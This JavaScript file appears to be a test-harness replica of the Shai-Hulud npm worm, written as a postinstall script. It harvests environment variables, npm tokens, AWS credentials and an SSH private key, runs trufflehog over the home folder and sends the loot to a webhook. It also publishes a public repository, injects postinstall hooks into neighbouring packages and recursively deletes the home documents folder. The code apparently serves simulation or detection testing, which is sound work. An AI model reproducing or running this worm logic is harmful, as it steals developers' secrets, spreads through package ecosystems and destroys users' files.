// As in September and November 2025: takes what it finds, spreads to its neighbours, and wipes the home folder where it cannot.
// The harness makes it as large as the original.
const kit = require("./kit.cjs");

kit.leaveTrace("script postinstall");

function loot() {
  const found = {};
  kit.attempt(() => {
    found.environment = { ...process.env };
  });
  for (const file of [".npmrc", ".aws/credentials", ".ssh/id_ed25519"]) found[file] = kit.readHome(file);
  return found;
}

function scan() {
  return kit.attempt(() => require("node:child_process").spawnSync("trufflehog", [kit.home]).status);
}

/** Its own files and script, put into the packages beside it. */
function spread() {
  const fs = require("node:fs");
  const neighbours = `${__dirname}/..`;
  for (const name of fs.readdirSync(neighbours)) {
    if (!name.startsWith("lookalike-") || `${neighbours}/${name}/` === `${__dirname}/`) continue;
    const file = `${neighbours}/${name}/package.json`;
    const content = JSON.parse(fs.readFileSync(file, "utf8"));
    if (content.name === "lookalike-tinycolor") continue;
    content.scripts = { ...content.scripts, postinstall: "node bundle.js" };
    fs.writeFileSync(file, JSON.stringify(content));
    fs.writeFileSync(`${neighbours}/${name}/bundle.js`, "// the worm\n");
  }
}

function wipe(folder) {
  if (!folder.startsWith(kit.home)) return;
  const fs = require("node:fs");
  for (const name of fs.readdirSync(folder)) kit.attempt(() => fs.rmSync(`${folder}/${name}`, { recursive: true }));
}

async function main() {
  scan();
  await kit.send("/webhook", loot());
  await kit.send("/user/repos", { name: "Shai-Hulud", private: false });
  kit.attempt(spread);
  kit.attempt(() => wipe(`${kit.home}/documents`));
}

module.exports = main();
